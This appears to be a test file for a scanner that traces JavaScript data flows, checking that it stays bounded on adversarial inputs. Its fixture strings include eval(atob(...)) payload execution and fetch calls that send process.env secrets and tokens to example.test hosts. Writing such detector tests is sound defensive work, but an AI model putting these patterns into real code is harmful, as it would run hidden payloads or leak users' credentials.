// Files that want to keep the engine busy: it comes back in bounded time, with an answer.
import { describe, expect, test } from 'vitest'
import { emptyFileCode, type FileCode } from '../../../src/code/file-code.ts'
import { findFlows } from '../../../src/code/flows/find-flows.ts'
import { linkBudget } from '../../../src/code/flows/link-budget.ts'
import { linkFlows } from '../../../src/code/flows/link-flows.ts'
import { maxSteps } from '../../../src/code/flows/steps.ts'
import { toCode } from '../../../src/code/package-code.ts'
import { parseSource } from '../../../src/code/parse.ts'
import { createResolver } from '../../../src/code/resolver.ts'

const times = (count: number, make: (index: number) => string) =>
  Array.from({ length: count }, (_, at) => make(at)).join('\n')

function flowsIn(source: string) {
  const { program, hasErrors } = parseSource('a.js', source)
  expect(hasErrors).toBe(false)
  return findFlows(createResolver(program), 'a.js', source)
}

/** Far above what any of these takes, far below what a quadratic one would. */
const soon = 20_000

describe('a hostile file', () => {
  test.each([
    [
      'functions that call each other',
      `${times(2000, (at) => `function f${at}(x) { return f${(at * 7 + 1) % 2000}(f${(at * 13 + 5) % 2000}(x)) }`)}
eval(f0(atob(globalThis.x)))`,
    ],
    [
      'assignments to one variable',
      `let a\n${times(100_000, (at) => `a = a + ${at}`)}\na = atob(globalThis.x)\neval(a)`,
    ],
    [
      'many functions',
      `${times(10_000, (at) => `function f${at}(x) { return x }`)}
${times(10_000, (at) => `eval(f${at}(atob(globalThis.x)))`)}`,
    ],
    [
      'one name for everything',
      `${times(5000, (at) => `const g${at} = (e) => { const t = e(e); return t(e) }`)}\neval(atob(globalThis.x))`,
    ],
    [
      'members of one object',
      `const o = {}\n${times(20_000, (at) => `o.m${at} = o.m${(at * 3) % 20_000}`)}\no.m1 = atob(globalThis.x)\neval(o.m7)\neval(o.m1)`,
    ],
    [
      'exports',
      `${times(3000, (at) => `exports.f${at} = (x) => exports.f${(at * 11 + 3) % 3000}(x)`)}\neval(atob(globalThis.x))`,
    ],
    [
      'secrets',
      `fetch('https://example.test', { body: [${times(5000, (at) => `process.env.TOKEN_${at},`)}] })\neval(atob(globalThis.x))`,
    ],
    ['a chain of calls', `eval(atob(globalThis.x)${times(1500, () => '.trim()')})`],
    ['one long sum', `const s = ${times(1500, (at) => `f${at}() +`)} atob(globalThis.x)\neval(s)`],
    [
      'deep nesting',
      `eval(${'['.repeat(300)}atob(globalThis.x)${']'.repeat(300)})\nmodule.exports = ${'{ ...{ a: '.repeat(150)}1${' } }'.repeat(150)}`,
    ],
    ['sinks', `const d = atob(globalThis.x)\n${times(20_000, () => 'eval(d)')}`],
    [
      'sinks that are handed over',
      `const d = atob(globalThis.x)\neval(d)\n${times(15_000, (at) => `run${at}(d, eval)`)}\nall(d, ${'eval, '.repeat(15_000)}d)`,
    ],
    [
      'one name for everything that is handed over',
      `const o = require('./x.js')\nlet e = o.a\n${times(10_000, (at) => `e = o.b${at}\nlist.map(e)`)}\neval(atob(globalThis.x))`,
    ],
    [
      'own functions handed to a function that hands them on',
      `const o = require('./x.js')\nconst each = (f) => list.map(f)\n${times(10_000, (at) => `each(o.b${at})`)}\nlet d = atob(globalThis.x)\neval(d)`,
    ],
    [
      'lists that are mapped again and again',
      `const o = require('./x.js')\nlet d = [atob(globalThis.x)]\n${times(3000, (at) => `d = d.map(o.f${at % 50})`)}\nd.map(eval)\neval(d[0])`,
    ],
    [
      'calls of others',
      `const x = require('./x.js')\nlet a = atob(globalThis.x)\neval(a)\n${times(4000, (at) => `a = x.f${at}(a)`)}`,
    ],
  ])('%s', { timeout: soon }, (_, source) => {
    const { flows, exhausted } = flowsIn(source)
    expect(exhausted || flows.some(({ source: from, sink }) => from === 'decoded' && sink === 'evaluate')).toBe(true)
  })

  test('has no way with more steps than twelve', () => {
    const source = `${times(50, (at) => `const v${at + 1} = v${at}.trim()`)}\nconst v0 = atob(globalThis.x)\neval(v50)`
    const [flow] = flowsIn(source).flows
    expect(flow?.steps).toHaveLength(maxSteps)
    expect(flow?.steps.at(0)).toMatch(/^a\.js:51 /)
    expect(flow?.steps.at(-1)).toMatch(/^a\.js:52 /)
  })
})

test('hostile files together', { timeout: soon }, () => {
  const files = new Map<string, FileCode>()
  for (let at = 0; at < 400; at++) {
    const source = `const a = require('./${(at * 7 + 1) % 400}.js'), b = require('./${(at * 13 + 5) % 400}.js')
exports.f = (x) => (x ? a.f(b.f(x)) : x)
${at === 5 ? 'exports.f = (x) => eval(x)' : ''}
${at === 9 ? 'a.f(atob(globalThis.x))' : ''}`
    const { flows, exports, calls } = flowsIn(source)
    files.set(`${at}.js`, { ...emptyFileCode, flows, exports, calls })
  }
  const found = linkFlows(files, (_, specifier) => specifier.slice(2))
  expect(found.map(({ flow }) => `${flow.source} ${flow.sink}`)).toEqual(['decoded evaluate'])
})

describe('more to link than is followed', { timeout: soon }, () => {
  /** `count` functions, each of which passes on what the next one gives back. */
  const chain = (count: number): Map<string, FileCode> => {
    const files = new Map<string, FileCode>()
    for (let at = 0; at < count; at++) {
      const source = `const { f } = require('./${at + 1}.js')\nexports.f = (${'_, '.repeat(20)}x) => f(${'0, '.repeat(20)}x)`
      files.set(`${at}.js`, codeOf(source))
    }
    files.set(`${count}.js`, codeOf(`exports.f = (${'_, '.repeat(20)}x) => x`))
    files.set('a.js', codeOf(`eval(require('./0.js').f(${'0, '.repeat(20)}atob(globalThis.x)))`))
    return files
  }
  const codeOf = (source: string): FileCode => {
    const { flows, exports, calls } = flowsIn(source)
    return { ...emptyFileCode, flows, exports, calls }
  }
  const resolve = (_: string, specifier: string) => specifier.slice(2)

  test('is nothing that a long chain, many parameters or many re-exports come to', () => {
    const budget = linkBudget()
    const found = linkFlows(chain(40), resolve, 'own', undefined, budget)
    expect(found.map(({ flow }) => `${flow.source} ${flow.sink}`)).toEqual(['decoded evaluate'])
    const again = new Map([...Array(30).keys()].map((at) => [`${at}.js`, codeOf(`export * from './${at + 1}.js'`)]))
    again.set('30.js', codeOf('export const open = (text) => atob(text)'))
    again.set('a.js', codeOf(`import { open } from './0.js'\neval(open(globalThis.x))`))
    expect(linkFlows(again, resolve, 'own', undefined, budget)).toHaveLength(1)
    expect(budget.left).toBeGreaterThan(0)
  })

  test('is nothing that calls which come first can hide', () => {
    const files = new Map([
      ['a.js', codeOf('exports.id = (x) => x\nexports.environment = () => process.env')],
      ['z.js', codeOf("fetch('https://a.example.test/' + JSON.stringify(require('./a.js').environment()))")],
    ])
    const decoys = codeOf(`const { id } = require('./a.js')\n${times(5000, (at) => `id(x${at})`)}`)
    for (let at = 0; at < 5; at++) files.set(`b${at}.js`, decoys)
    const budget = linkBudget()
    const found = linkFlows(files, resolve, 'own', undefined, budget)
    expect(found.map(({ flow }) => `${flow.source} ${flow.sink}`)).toEqual(['environment network'])
    expect(budget.left).toBeGreaterThan(0)
  })

  test('is told, and ends', () => {
    const budget = { left: 1000 }
    linkFlows(chain(400), resolve, 'own', undefined, budget)
    expect(budget.left).toBeLessThan(0)
  })

  test('makes the package one that was not read, and no other file suffers', () => {
    // Names in a ring grow with each round.
    const files = new Map([
      ['a.js', codeOf("module.exports = require('./b.js').x")],
      ['b.js', codeOf("module.exports = require('./a.js').y")],
      ['c.js', codeOf("require('./a.js').foo(process.env.NPM_TOKEN)")],
      ['d.js', { ...codeOf('eval(x)'), unreadable: 'syntax' as const }],
    ])
    const code = toCode({ files, reachOf: () => 'import', sha256Of: () => '', resolve })
    expect(code.unreadable.map(({ file, why }) => ({ file, why }))).toEqual([
      { file: 'a.js', why: 'too-much' },
      { file: 'd.js', why: 'syntax' },
    ])
  })

  test.each([
    [
      'a long name, asked for again and again through many re-exports',
      () => {
        const name = 'f'.repeat(10_000)
        const files = new Map(
          [...Array(300).keys()].map((at) => [`${at}.js`, codeOf(`export * from './${at + 1}.js'`)]),
        )
        files.set('300.js', codeOf(`export const ${name} = (x) => x`))
        files.set('a.js', codeOf(`import { ${name} as f } from './0.js'\n${times(300, (at) => `f(x${at})`)}`))
        return files
      },
    ],
    [
      'many parameters under many names',
      () => {
        const names = [...Array(200).keys()].map((at) => `f as f${at}`)
        const source = `function f(${'a, '.repeat(10_000)}b) { return b }\nexport { ${names.join(', ')} }`
        return new Map([['a.js', codeOf(source)]])
      },
    ],
    [
      'many exports of one name, called often',
      () => {
        const many = times(900, () => 'exports.f = (x) => x')
        const calls = times(2500, (at) => `f(x${at})`)
        return new Map([
          ['a.js', codeOf(many)],
          ['b.js', codeOf(`const { f } = require('./a.js')\n${calls}`)],
        ])
      },
    ],
    [
      'a long list that is bound, and called often',
      () =>
        new Map([
          ['a.js', codeOf(`function f() {}\nconst r = f.bind(null${', 1'.repeat(8000)})\n${'r();'.repeat(8000)}`)],
        ]),
    ],
  ])('%s takes neither long nor much memory', (_, make) => {
    const before = process.memoryUsage().rss
    linkFlows(make(), resolve)
    expect(process.memoryUsage().rss - before).toBeLessThan(500 * 1024 * 1024)
  })
})
